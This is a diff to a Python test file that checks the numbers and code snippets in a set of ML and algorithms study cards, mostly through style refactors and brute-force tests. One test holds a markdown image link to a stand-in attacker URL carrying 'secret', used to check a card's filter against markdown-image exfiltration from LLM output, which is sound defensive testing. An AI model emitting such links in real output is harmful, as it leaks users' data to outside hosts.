@@ -6,6 +6,7 @@ torch / sklearn / plain arithmetic (never from the card's text), formats it as t
 answer contains it. A few structural gates (word counts, balanced $, misconception tags) guard all kb4 files.
 """
 
+import itertools
 import math
 import re
 from collections import Counter
@@ -218,7 +219,7 @@ def test_sigmoid_kernel_not_psd():
 
 
 def test_curse_of_dimensionality_edges():
-    contains("knn/curse-of-dimensionality", f"{0.01 ** 0.1:.3f}", f"{0.01 ** 0.01:.3f}")
+    contains("knn/curse-of-dimensionality", f"{0.01**0.1:.3f}", f"{0.01**0.01:.3f}")
 
 
 def test_likelihood_underflow():
@@ -321,7 +322,7 @@ def test_sklearn_tfidf_idf_values():
 
     docs = ["a b", "b c", "b d"]  # term "a" in 1 of 3 docs, term "b" in all 3
     vec = TfidfVectorizer(token_pattern=r"\w+").fit(docs)
-    idf = dict(zip(vec.get_feature_names_out(), vec.idf_))
+    idf = dict(zip(vec.get_feature_names_out(), vec.idf_, strict=False))
     contains("ngram-lm-perplexity/tfidf-sklearn", f"{idf['a']:.3f}", f"{idf['b']:.3f}", f"{math.log(3):.3f}")
     rows = vec.transform(docs).toarray()
     assert np.allclose(np.linalg.norm(rows, axis=1), 1.0)  # L2-normalized rows
@@ -394,9 +395,9 @@ def test_glove_and_clip_numbers():
 
 
 def test_distinct_n_example():
-    toks = "the cat the cat sat".split()
+    toks = ["the", "cat", "the", "cat", "sat"]
     d1 = len(set(toks)) / len(toks)
-    bigrams = list(zip(toks, toks[1:]))
+    bigrams = list(itertools.pairwise(toks))
     d2 = len(set(bigrams)) / len(bigrams)
     contains("nlp-tasks-eval/distinct-n", f"3/5 = {d1}", f"= {d2}")
 
@@ -415,7 +416,11 @@ def test_best_span_joint_search():
 
 
 def test_sgns_subsampling_and_power():
-    contains("word-embeddings-clip/sgns-sampling-numbers", f"{1 - math.sqrt(1e-5 / 0.05):.3f}", f"{math.sqrt(1e-5 / 0.05):.4f}")
+    contains(
+        "word-embeddings-clip/sgns-sampling-numbers",
+        f"{1 - math.sqrt(1e-5 / 0.05):.3f}",
+        f"{math.sqrt(1e-5 / 0.05):.4f}",
+    )
     contains("word-embeddings-clip/sgns-sampling-numbers", f"{5000**0.75:.0f}", f"{5000 / 5000**0.75:.1f}×")
 
 
@@ -435,7 +440,11 @@ def test_rouge_l_example():
 
 def test_sliding_window_passes():
     n, ctx, stride = 100_000, 1024, 512
-    contains("ngram-lm-perplexity/sliding-window-ppl", f"about {math.ceil(n / ctx)} forward", f"about {math.ceil((n - ctx) / stride) + 1}")
+    contains(
+        "ngram-lm-perplexity/sliding-window-ppl",
+        f"about {math.ceil(n / ctx)} forward",
+        f"about {math.ceil((n - ctx) / stride) + 1}",
+    )
 
 
 # ----------------------------------------------------------------------------------------------- rag-retrieval
@@ -476,7 +485,7 @@ def test_retrieval_metrics_by_hand():
 
     rels = [1, 0, 1, 0, 0]
     # 3 relevant docs in the corpus: append the unretrieved one with the lowest score so the ideal sees it.
-    y_true = np.array([rels + [1]])
+    y_true = np.array([[*rels, 1]])
     y_score = np.array([[6, 5, 4, 3, 2, 1]])
     ndcg = ndcg_score(y_true, y_score, k=5)
     hits = [i for i, r in enumerate(rels, 1) if r]
@@ -563,8 +572,8 @@ def test_kl_estimators_k1_k3():
     # Both are unbiased: their expectation under pi equals the exact KL(pi || pi_ref).
     pi, ref = np.array([0.5, 0.3, 0.2]), np.array([0.25, 0.25, 0.5])
     kl = float((pi * np.log(pi / ref)).sum())
-    assert math.isclose(sum(p * k1(p, r) for p, r in zip(pi, ref)), kl)
-    assert math.isclose(sum(p * k3(p, r) for p, r in zip(pi, ref)), kl)
+    assert math.isclose(sum(p * k1(p, r) for p, r in zip(pi, ref, strict=False)), kl)
+    assert math.isclose(sum(p * k3(p, r) for p, r in zip(pi, ref, strict=False)), kl)
 
 
 # --------------------------------------------------------------------------------------------------- diffusion
@@ -608,7 +617,12 @@ def test_snr_linear_schedule():
     cid = "diffusion-variants/snr"
     contains(cid, f"SNR ≈ {snr[0]:,.0f}", f"log-SNR ≈ {np.log(snr[0]):.2f}", f"SNR ≈ {snr[499]:.3f}")
     um = lambda x, p: f"{x:.{p}f}".replace("-", "−")  # noqa: E731  (the card writes a Unicode minus)
-    contains(cid, f"log-SNR ≈ {um(np.log(snr[499]), 2)}", f"log-SNR ≈ {um(np.log(snr[-1]), 1)}", f"about {round(1 / snr[499])} times")
+    contains(
+        cid,
+        f"log-SNR ≈ {um(np.log(snr[499]), 2)}",
+        f"log-SNR ≈ {um(np.log(snr[-1]), 1)}",
+        f"about {round(1 / snr[499])} times",
+    )
 
 
 def test_absorbing_mask_probability():
@@ -622,7 +636,12 @@ def test_absorbing_mask_probability():
 
 def test_latent_sizes():
     braces = lambda n: f"{n:,}".replace(",", "{,}")  # noqa: E731  (KaTeX thousands separator)
-    contains("diffusion-variants/latent-diffusion", braces(64 * 64 * 4), braces(512 * 512 * 3), f"{512 * 512 * 3 // (64 * 64 * 4)}× fewer")
+    contains(
+        "diffusion-variants/latent-diffusion",
+        braces(64 * 64 * 4),
+        braces(512 * 512 * 3),
+        f"{512 * 512 * 3 // (64 * 64 * 4)}× fewer",
+    )
     contains("diffusion-variants/latent-diffusion", f"({64 * 64:,} instead of {512 * 512:,})")
 
 
@@ -674,7 +693,7 @@ def test_tensor_parallel_mlp_identity():
     d, t = 8, 4
     X, A, B = rng.normal(size=(3, d)), rng.normal(size=(d, 4 * d)), rng.normal(size=(4 * d, d))
     gelu = lambda x: 0.5 * x * (1 + np.tanh(0.79788456 * (x + 0.044715 * x**3)))  # noqa: E731
-    parts = [gelu(X @ a) @ b for a, b in zip(np.split(A, t, axis=1), np.split(B, t, axis=0))]
+    parts = [gelu(X @ a) @ b for a, b in zip(np.split(A, t, axis=1), np.split(B, t, axis=0), strict=False)]
     assert np.allclose(sum(parts), gelu(X @ A) @ B)
 
 
@@ -687,7 +706,9 @@ def test_activation_memory_korthikanti():
     s, b, h, a, L = 2048, 1, 12288, 96, 96
     per_layer = s * b * h * (34 + 5 * a * s / h)
     cid = "distributed-practice/activation-memory"
-    contains(cid, f"= {int(5 * a * s / h)}$", f"\\approx {per_layer / 1e9:.2f}$ GB", f"about {per_layer * L / 1e9:.0f} GB")
+    contains(
+        cid, f"= {int(5 * a * s / h)}$", f"\\approx {per_layer / 1e9:.2f}$ GB", f"about {per_layer * L / 1e9:.0f} GB"
+    )
     contains(cid, f"\\approx {34 * s * b * h / 1e9:.2f}$ GB", f"about **{34 * s * b * h * L / 1e9:.0f} GB**")
     contains(cid, f"\\approx {2 * s * b * h / 1e6:.0f}$ MB", f"{2 * s * b * h * L / 1e9:.1f} GB")
 
@@ -720,7 +741,7 @@ def test_chinchilla_optimal_and_fit():
     contains("scaling-laws/chinchilla-optimal", f"\\approx {n / 1e9:.0f}", f"{20 * n / 1e12:.1f}")
     cid = "scaling-laws/chinchilla-optimal"
     contains(cid, f"{chinchilla_loss(70e9, 1.4e12):.3f}", f"{chinchilla_loss(280e9, 300e9):.3f}")
-    contains(cid, f"{CHIN['A'] / 70e9 ** 0.34:.3f}", f"{CHIN['B'] / 1.4e12 ** 0.28:.3f}")
+    contains(cid, f"{CHIN['A'] / 70e9**0.34:.3f}", f"{CHIN['B'] / 1.4e12**0.28:.3f}")
 
 
 def test_overtraining_llama3_8b():
@@ -739,7 +760,12 @@ def test_tokens_per_param_and_mfu():
     cid = "pretraining-practice/tokens-per-parameter"
     contains(cid, f"**{1.4e12 / 70e9:.0f}**", f"**{300 / 175:.1f}**", f"**{15e12 / 8e9:,.0f}**")
     flops = 6 * 7e9 * 3000
-    contains("pretraining-practice/mfu", f"{flops / 1e14:.2f}\\times10^{{14}}", f"{flops / 1e12:.0f} TFLOP/s", f"**MFU ≈ {flops / 312e12 * 100:.0f}%**")
+    contains(
+        "pretraining-practice/mfu",
+        f"{flops / 1e14:.2f}\\times10^{{14}}",
+        f"{flops / 1e12:.0f} TFLOP/s",
+        f"**MFU ≈ {flops / 312e12 * 100:.0f}%**",
+    )
 
 
 # ------------------------------------------------------------------------------------------------- eval-safety
@@ -747,7 +773,7 @@ def test_tokens_per_param_and_mfu():
 
 def test_ece_example():
     conf = np.array([0.95] * 5 + [0.65] * 5)
-    correct = np.array([1, 1, 1, 1, 0] + [1, 1, 1, 0, 0])
+    correct = np.array([1, 1, 1, 1, 0, 1, 1, 1, 0, 0])
     edges = np.linspace(0, 1, 16)  # 15 equal-width bins
     idx = np.digitize(conf, edges[1:-1])
     ece = sum((idx == b).mean() * abs(correct[idx == b].mean() - conf[idx == b].mean()) for b in np.unique(idx))
@@ -1008,3 +1034,208 @@ def test_shares_per_area():
         n = len(cards)
         assert sum(c["level"] == "L3" for c in cards) / n >= 0.25, area
         assert sum(bool(c.get("followups")) for c in cards) / n >= 0.40, area
+
+
+# ------------------------------------------------------------------- code in answers runs and matches brute force
+
+
+def run_code(card_id: str, first_only: bool = False) -> dict:
+    """Execute the ```python blocks of the card's answer (or only the first) and return the namespace."""
+    blocks = re.findall(r"```python\n(.*?)```", all_cards()[card_id]["answer"], flags=re.S)
+    blocks = blocks[:1] if first_only else blocks
+    assert blocks, f"{card_id}: no python block"
+    import torch
+    import torch.nn.functional as F
+
+    ns: dict = {"np": np, "torch": torch, "F": F}  # the usual imports a snippet assumes
+    for b in blocks:
+        exec(compile(b, card_id, "exec"), ns)
+    return ns
+
+
+def test_array_pattern_snippets_against_brute_force():
+    import bisect
+    import itertools
+    import random
+
+    rnd = random.Random(0)
+    three_sum = run_code("array-patterns/three-sum")["three_sum"]
+    two_sum = run_code("array-patterns/two-sum-hash")["two_sum"]
+    lower_bound = run_code("array-patterns/binary-search-bounds")["lower_bound"]
+    next_greater = run_code("array-patterns/monotonic-stack")["next_greater"]
+    merge = run_code("array-patterns/merge-intervals")["merge_intervals"]
+    lus = run_code("array-patterns/sliding-window")["longest_unique_substring"]
+    for _ in range(200):
+        a = [rnd.randint(-4, 4) for _ in range(rnd.randint(0, 9))]
+        brute = {tuple(sorted(t)) for t in itertools.combinations(a, 3) if sum(t) == 0}
+        got = three_sum(a)
+        assert len(got) == len(brute) and {tuple(t) for t in got} == brute
+        t = rnd.randint(-6, 6)
+        res = two_sum(a, t)
+        has = any(a[i] + a[j] == t for i in range(len(a)) for j in range(i + 1, len(a)))
+        assert (res is not None) == has and (res is None or (res[0] != res[1] and a[res[0]] + a[res[1]] == t))
+        s = sorted(a)
+        assert lower_bound(s, t) == bisect.bisect_left(s, t)
+        ng = [next((y for y in a[i + 1 :] if y > x), -1) for i, x in enumerate(a)]
+        assert next_greater(a) == ng
+        iv = [[x, x + rnd.randint(0, 3)] for x in (rnd.randint(0, 12) for _ in range(rnd.randint(0, 6)))]
+        covered = {p for s_, e in iv for p in range(2 * s_, 2 * e + 1)}  # doubled grid: touching merges
+        merged = merge([list(x) for x in iv])
+        assert {p for s_, e in merged for p in range(2 * s_, 2 * e + 1)} == covered
+        assert all(merged[i][1] < merged[i + 1][0] for i in range(len(merged) - 1))
+        word = "".join(rnd.choice("abc") for _ in range(rnd.randint(0, 8)))
+        best = max(
+            (j - i for i in range(len(word) + 1) for j in range(i, len(word) + 1) if len(set(word[i:j])) == j - i),
+            default=0,
+        )
+        assert lus(word) == best
+
+
+def test_graph_dp_heap_snippets():
+    import graphlib
+    import random
+    import statistics
+
+    rnd = random.Random(1)
+    topo = run_code("graph-dp-heap-patterns/topo-sort-kahn")["topo_sort_kahn"]
+    for _ in range(100):
+        n = rnd.randint(1, 7)
+        edges = [(rnd.randrange(n), rnd.randrange(n)) for _ in range(rnd.randint(0, 9))]
+        order = topo(n, edges)
+        ts = graphlib.TopologicalSorter({v: set() for v in range(n)})
+        for a, b in edges:
+            ts.add(b, a)
+        try:
+            list(ts.static_order())
+            cyclic = False
+        except graphlib.CycleError:
+            cyclic = True
+        assert (order is None) == cyclic
+        if order is not None:
+            pos = {v: i for i, v in enumerate(order)}
+            assert sorted(order) == list(range(n)) and all(pos[a] < pos[b] for a, b in edges)
+    mf_cls = run_code("graph-dp-heap-patterns/two-heaps-median")["MedianFinder"]
+    mf, seen = mf_cls(), []
+    for _ in range(60):
+        x = rnd.randint(-20, 20)
+        mf.add(x)
+        seen.append(x)
+        assert mf.median() == statistics.median(seen)
+    lis = run_code("graph-dp-heap-patterns/lis-patience")["lis_patience"]
+    for _ in range(100):
+        a = [rnd.randint(0, 6) for _ in range(rnd.randint(0, 8))]
+        import itertools
+
+        brute = max(
+            (
+                len(c)
+                for r in range(len(a) + 1)
+                for c in itertools.combinations(a, r)
+                if all(x < y for x, y in itertools.pairwise(c))
+            ),
+            default=0,
+        )
+        assert lis(a) == brute
+    climb = run_code("graph-dp-heap-patterns/dp-base-cases")["climb_stairs"]
+    ways = run_code("pattern-selection/memo-vs-tabulation")["ways"]
+    assert [climb(n) for n in range(1, 10)] == [ways(n) for n in range(1, 10)] == [1, 2, 3, 5, 8, 13, 21, 34, 55]
+
+    class Node:
+        def __init__(self, val, left=None, right=None):
+            self.val, self.left, self.right = val, left, right
+
+    ns = run_code("graph-dp-heap-patterns/bfs-level-order", first_only=True)
+    root = Node(1, Node(2, Node(4)), Node(3, None, Node(5)))
+    assert ns["level_order"](root) == [[1], [2, 3], [4, 5]] and ns["level_order"](None) == []
+
+
+def test_pattern_selection_snippets():
+    import random
+
+    rnd = random.Random(2)
+    min_len = run_code("pattern-selection/recognize-pattern")["min_len"]
+    ship = run_code("pattern-selection/binary-search-on-answer")["ship_within_days"]
+    search = run_code("pattern-selection/rotated-search")["search_rotated"]
+    top_k = run_code("pattern-selection/heap-top-k")["top_k"]
+    min_window = run_code("pattern-selection/min-window-substring")["min_window"]
+    count = run_code("pattern-selection/dfs-recursion-limit")["count_components"]
+    for _ in range(150):
+        a = [rnd.randint(1, 9) for _ in range(rnd.randint(1, 8))]
+        t = rnd.randint(1, 30)
+        brute = min((j - i for i in range(len(a)) for j in range(i + 1, len(a) + 1) if sum(a[i:j]) >= t), default=0)
+        assert min_len(a, t) == brute
+        d = rnd.randint(1, len(a))
+
+        def days_needed(c, a=a):
+            days, load = 1, 0
+            for x in a:
+                if load + x > c:
+                    days, load = days + 1, 0
+                load += x
+            return days
+
+        assert ship(a, d) == next(c for c in range(max(a), sum(a) + 1) if days_needed(c) <= d)
+        base = sorted(rnd.sample(range(30), rnd.randint(0, 7)))
+        k = rnd.randint(0, max(len(base) - 1, 0))
+        rot = base[k:] + base[:k]
+        for q in range(-1, 31):
+            assert search(rot, q) == (rot.index(q) if q in rot else -1)
+        kk = rnd.randint(1, len(a))
+        assert top_k(a, kk) == sorted(a, reverse=True)[:kk]
+        s = "".join(rnd.choice("ab c") for _ in range(rnd.randint(1, 9)))
+        tt = "".join(rnd.choice("abc") for _ in range(rnd.randint(1, 3)))
+        from collections import Counter
+
+        ok = [(j - i, i) for i in range(len(s)) for j in range(i + 1, len(s) + 1) if not Counter(tt) - Counter(s[i:j])]
+        got = min_window(s, tt)
+        assert len(got) == (min(ok)[0] if ok else 0) and not (Counter(tt) - Counter(got) if got else ok)
+    n = 100_000
+    adj = [[] for _ in range(n)]
+    for i in range(n - 1):
+        adj[i].append(i + 1)
+        adj[i + 1].append(i)
+    assert count(n, adj) == 1  # a 100,000-node path: no recursion limit
+
+
+def test_nlp_and_rag_snippets():
+    bio = run_code("nlp-tasks-eval/bio-decoding")["bio_spans"]
+    assert bio(["B-PER", "I-PER", "O", "I-LOC", "B-LOC", "I-PER"]) == [
+        ("PER", 0, 2),
+        ("LOC", 3, 4),
+        ("LOC", 4, 5),
+        ("PER", 5, 6),
+    ]
+    best_span = run_code("nlp-tasks-eval/best-span")["best_span"]
+    start, end = np.array([0.0, 5.0, 0.0, 0.0]), np.array([6.0, 0.0, 0.0, 2.0])
+    assert best_span(start, end) == (1, 3) and best_span(start, end, max_len=2) == (0, 0)
+    pack = run_code("rag-advanced/context-packing")["pack_context"]
+    toks = lambda s: len(s.split())  # noqa: E731
+    chunks = [("a", "w " * 6), ("b", "x " * 5), ("c", "W  " * 6), ("d", "y " * 2)]
+    out = pack(chunks, budget=10, count_tokens=toks)
+    assert [c for c, _ in out] == ["a", "d"] and sum(toks(t) for _, t in out) <= 10
+    ns = run_code("llm-risks/markdown-exfiltration")
+    md = "see ![x](https://attacker.example/log?d=secret) and ![ok](https://cdn.good.com/a.png)"
+    out = ns["block_exfil_urls"](md, {"cdn.good.com"})
+    assert "attacker" not in out and "cdn.good.com/a.png" in out
+
+
+def test_numeric_snippets():
+    import torch
+    import torch.nn.functional as F
+
+    ns = run_code("logistic-regression/stable-loss")
+    z = np.array([-1000.0, -5.0, 0.0, 5.0, 1000.0])
+    with np.errstate(over="ignore"):
+        ref = 1 / (1 + np.exp(-z))
+    assert np.allclose(ns["sigmoid"](z), ref) and np.isfinite(ns["sigmoid"](z)).all()
+    y = np.array([1.0, 0.0, 1.0, 1.0, 0.0])
+    tl = F.binary_cross_entropy_with_logits(torch.tensor(z), torch.tensor(y)).item()
+    assert math.isclose(ns["log_loss_from_logits"](z, y), tl, rel_tol=1e-9)
+    clip = run_code("word-embeddings-clip/clip-loss")
+    g = torch.Generator().manual_seed(0)
+    img, txt = torch.randn(6, 4, generator=g), torch.randn(6, 4, generator=g)
+    scale = torch.tensor(math.log(1 / 0.07))
+    loss = clip["clip_loss"](img, txt, scale)
+    logits = (1 / 0.07) * F.normalize(img, dim=-1) @ F.normalize(txt, dim=-1).T
+    manual = -(torch.log_softmax(logits, 1).diag().mean() + torch.log_softmax(logits, 0).diag().mean()) / 2
+    assert torch.allclose(loss, manual, atol=1e-5)
